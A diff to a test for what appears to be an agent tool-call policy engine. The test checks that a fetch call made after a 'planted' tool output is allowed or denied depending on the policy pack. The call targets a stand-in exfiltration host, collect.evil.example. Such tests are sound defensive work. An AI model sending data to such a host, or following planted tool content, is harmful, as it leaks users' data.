@@ -133,6 +133,7 @@ def test_a_pack_entry_that_names_its_arguments_describes_only_that_tool() -> Non
         schema = {"type": "object", "properties": {p: {"type": "string"} for p in props}}
         s.observe_tools_list({"tools": [{"name": "fetch", "inputSchema": schema}]})
         s.observe_output("fetch", planted)
-        call = ToolCall("web", "fetch", {"url": "https://collect.evil.example/in", "method": "POST"})
+        # the URL alone: an argument mcp-server-fetch does not list would count against the pack
+        call = ToolCall("web", "fetch", {"url": "https://collect.evil.example/in"})
         verdicts[label] = evaluate(policy, s, call, datetime(2026, 6, 3, tzinfo=UTC)).action
     assert verdicts == {"mcp-server-fetch": "allow", "posting": "deny"}
